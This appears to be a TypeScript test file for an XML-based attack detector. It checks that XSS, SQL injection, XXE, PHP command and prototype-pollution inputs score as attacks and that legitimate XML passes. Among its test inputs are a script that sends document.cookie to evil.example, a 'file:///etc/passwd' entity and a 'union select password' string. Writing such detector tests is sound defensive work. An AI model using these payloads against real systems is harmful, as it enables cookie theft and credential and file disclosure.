import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Engine } from './engine.ts'
import { fieldsOfText, fieldsOfXml } from './xml-fields.ts'

const scoreOf = (text: string) => new Engine().inspect(fieldsOfXml(text)).score
const union = "' union select password from users--"

/** Characters of all texts that are made of one. */
function madeOf(text: string): number {
  let characters = 0
  for (const field of fieldsOfXml(text)) characters += field.text.length
  return characters
}

describe('XML hides no attack', () => {
  it.each([
    '<script>alert(document.cookie)</script>',
    '<svg:script href="a.js"/>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg onload="alert(1)"/>',
    '<a><![CDATA[<script>fetch("//evil.example/"+document.cookie)</script>]]></a>',
    '<a><![CDATA[<img src=x onerror=alert(1)>]]></a>',
    `<a b='1' c="x${union}"/>`,
    `<a b="1>2" c="x${union}"/>`,
    `<a>1<!-- -->${union}</a>`,
    `<a>1<![CDATA[${union}]]></a>`,
    "<a>1' union<select password from users--",
    "1' union<select password from users--",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<a><?php system("id") ?></a>',
    '<a><__proto__><admin>1</admin></__proto__></a>',
    '<p><iframe src="https://evil.example"></iframe></p>',
    '<p><iframe/></p>',
    '<h:iframe srcdoc="&lt;b&gt;"/>',
    '<object data="https://evil.example/x"></object>',
    '<embed src="//evil.example/x.swf"/>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
    '<base href="//evil.example/"/>',
    '<link rel="stylesheet" href="//evil.example"/>',
  ])('%s', (text) => {
    expect(scoreOf(text)).toBeGreaterThanOrEqual(5)
  })

  it('all of a plain text is one text', () => {
    const text = "1' union <a> select password from users--"
    expect([...fieldsOfText(text)]).toEqual([{ kind: 'text', name: 'body', text }])
    expect([...fieldsOfText(' \n')]).toEqual([])
  })

  it('of any text no more is made than a few times its length', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '<!',
      'a',
      ' ',
      '=',
      '/',
      ...[' onload', ' script', ' a=b', ' data="', '<object ', '<a ', '<!x ', '?>'],
    )
    const ending = fc.constantFrom('', '>', '/>', '">', "'>", '--></a>', ']]>')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), ending, (pieces, end) => {
        const text = `<${pieces.join('')}${end}`
        expect(madeOf(text)).toBeLessThanOrEqual(8 * text.length)
        const row = `<a ${pieces.join('').repeat(100)}${end}`
        expect(madeOf(row)).toBeLessThanOrEqual(8 * row.length)
      }),
    )
  })

  it.each([
    ...['onabc ', 'onload ', ' script', ' a=b', '="', "='", '" onload="', '<a onload>', '<'],
    ...['<object data>', '<![CDATA[', '<!--', '-->', '<?', '<!a>', '</a>', '<a b="c">', ']]>'],
  ])('100 KB of %j make no more than a few times their length', (unit) => {
    const row = unit.repeat(100_000 / unit.length)
    for (const text of [`<a ${row}/>`, `<a>${row}</a>`]) {
      expect(madeOf(text)).toBeLessThanOrEqual(4 * text.length)
    }
  })
})

it.each([
  '<?xml version="1.0" encoding="utf-8"?><a xmlns="urn:a"><b c="1 &lt; 2">O\'Brien &amp; sons</b></a>',
  '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
  '<rss version="2.0"><channel><link>https://a.example/</link><image href="b.png"/></channel></rss>',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><style>a{b:c}</style></svg>',
  '<feed><link rel="alternate" href="https://a.example/"/><link rel="self" href="/feed"/></feed>',
  '<package><metadata><meta name="cover" content="img1"/></metadata></package>',
  '<store><object id="1"><base>10</base><frame>2</frame><embed/></object></store>',
])('legal XML passes: %s', (text) => {
  expect(scoreOf(text)).toBeLessThan(5)
})

it('a tag is a text once, however many events it has', () => {
  const tag = `<a ${'onload '.repeat(500)}>`
  expect(madeOf(tag)).toBeLessThanOrEqual(3 * tag.length)
  expect(scoreOf(tag.replace('>', '=alert(1)>'))).toBeGreaterThanOrEqual(5)
})
